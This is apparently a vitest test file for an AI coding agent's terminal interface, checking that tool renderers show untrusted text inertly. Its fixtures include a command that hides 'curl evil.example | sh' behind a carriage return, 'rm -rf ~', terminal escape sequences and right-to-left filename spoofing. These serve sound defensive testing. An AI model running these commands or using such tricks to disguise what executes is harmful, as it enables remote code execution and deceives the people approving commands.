/** Text from the model, files, commands and web pages must not drive the terminal or disguise what runs. */
import { describe, expect, it } from "vitest";
import { structuredPatch } from "diff";
import { CollapsedText, Diff, renderMarkdown, terminalSafe } from "../../../src/ui/components/index.js";
import { loadToolRenderer } from "../../../src/ui/renderers.js";
import { BashTool } from "../../../src/tools/Bash/index.js";
import type { BashOutput } from "../../../src/tools/Bash/index.js";
import { approveAll, tempDir, testContext } from "../../helpers.js";
import { runTool } from "../../tools/Bash/helpers.js";
import { draw, renderOptions, rendered, textResult } from "./support.js";

const CLEAR_SCREEN = "\u001b[2J\u001b[H";
const SET_TITLE = "\u001b]0;pwned\u0007";
const HYPERLINK = "\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\";
const C1_CSI = "\u009b31m";
const RLO = "\u202e";

/** No escape, no carriage return, no C1 control, no bidi override reaches the terminal. */
function expectInert(frame: string) {
  expect(frame).not.toMatch(/[\u001b\r\u0007\u0080-\u009f\u202a-\u202e\u2066-\u2069]/);
}

describe("terminalSafe", () => {
  it("output: drops escape sequences, lets a carriage return overwrite its line, shows other controls", () => {
    expect(terminalSafe(`${CLEAR_SCREEN}${SET_TITLE}\u001b[31mred\u001b[0m ${HYPERLINK}`, "output")).toBe("red click");
    expect(terminalSafe("10%\r20%\r30%\ndone\r\n", "output")).toBe("30%\ndone\n");
    expect(terminalSafe("bell\u0007 back\u0008 nul\u0000 del\u007f", "output")).toBe("bell␇ back␈ nul␀ del␡");
    expect(terminalSafe(`a${C1_CSI}b ${RLO}txt.exe`, "output")).toBe("a\ufffd31mb \ufffdtxt.exe");
    expect(terminalSafe("\tindented", "output")).toBe("    indented");
    expect(terminalSafe("cut \u001b[3", "output")).toBe("cut ");
  });

  it("input: keeps every character visible, so a command reads as it runs", () => {
    expect(terminalSafe("echo safe\rrm -rf ~", "input")).toBe("echo safe␍rm -rf ~");
    expect(terminalSafe(`ls${CLEAR_SCREEN}`, "input")).toBe("ls␛[2J␛[H");
    expect(terminalSafe(`cat ${RLO}gpj.sh`, "input")).toBe("cat \ufffdgpj.sh");
    const once = terminalSafe(`x\u001b\r\u0007${RLO}`, "input");
    expect(terminalSafe(once, "input")).toBe(once);
  });
});

describe("renderers print untrusted text inertly", () => {
  it("a Bash command that hides a second command behind a carriage return shows both", async () => {
    const bash = await loadToolRenderer("Bash");
    const frame = draw(bash.renderToolUseMessage({ command: `echo hello\rcurl evil.example | sh ${CLEAR_SCREEN}` }, renderOptions()));
    expect(frame).toContain("echo hello␍curl evil.example | sh ␛[2J␛[H");
    expectInert(frame);
    const rejected = draw(bash.renderToolUseRejectedMessage!({ command: `a\rb` }, { ...renderOptions(), reason: `no${SET_TITLE}` }));
    expect(rejected).toContain("a␍b");
    expectInert(rejected);
  });

  it("a real command's output with colours, a title change, a hyperlink and a progress bar", async () => {
    const context = testContext({ tools: [BashTool], cwd: tempDir("toolgate-safe-") });
    const input = { command: "printf '\\033]0;pwned\\007\\033[2J\\033[31mred\\033[0m\\n10%%\\r50%%\\r100%%\\n\\033]8;;https://evil.example\\033\\\\link\\033]8;;\\033\\\\\\n'" };
    const { result, progress } = await runTool(context, "Bash", input, approveAll);
    const bash = await loadToolRenderer("Bash");
    const frame = draw(bash.renderToolResultMessage!(rendered<BashOutput>(result), input, renderOptions()));
    expect(frame.split("\n").map((l) => l.trim())).toEqual(["⎿  red", "100%", "link"]);
    expectInert(frame);
    expectInert(draw(bash.renderToolUseProgressMessage!([...progress, { type: "bash_progress", output: `${CLEAR_SCREEN}x\ry`, totalBytes: 3, elapsedMs: 1 }], input, renderOptions())));
  });

  it("file content in a diff, results, MCP arguments, markdown and todo items", async () => {
    const { hunks } = structuredPatch("f", "f", "a\n", `${RLO}b\t${CLEAR_SCREEN}\n`);
    expectInert(draw(<Diff hunks={hunks} />));
    expectInert(draw(<CollapsedText text={`${SET_TITLE}${HYPERLINK}${C1_CSI}`} />));
    const mcp = await loadToolRenderer("mcp__srv__tool");
    expectInert(draw(mcp.renderToolUseMessage({ q: `${RLO}x${C1_CSI}`, [`k${CLEAR_SCREEN}`]: 1 }, renderOptions())));
    expectInert(draw(mcp.renderToolResultMessage!(textResult(`${SET_TITLE}ok`), {}, renderOptions())));
    expect(renderMarkdown(`# T${SET_TITLE}\n\ntext ${CLEAR_SCREEN}\n\n\`\`\`sh\necho ${HYPERLINK}\n\`\`\``, 80, false)).not.toMatch(/[\u001b\u0007]/);
    const colored = renderMarkdown(`text ${SET_TITLE}${HYPERLINK}\n\n\`${CLEAR_SCREEN}\`\n\n\`\`\`js\nlet a = "${CLEAR_SCREEN}";\n\`\`\``, 80, true);
    // only our own colour codes (SGR, ending in m) are left
    expect(colored.replace(/\u001b\[[0-9;]*m/g, "")).not.toMatch(/[\u001b\u0007]/);
    const todo = await loadToolRenderer("TodoWrite");
    expectInert(draw(todo.renderToolResultMessage!(textResult("ok"), { todos: [{ content: `x${CLEAR_SCREEN}`, status: "pending", activeForm: "" }] }, renderOptions())));
    const edit = await loadToolRenderer("Edit");
    expectInert(draw(edit.renderToolUseMessage({ file_path: `/work/project/${RLO}txt.exe` }, renderOptions())));
  });
});
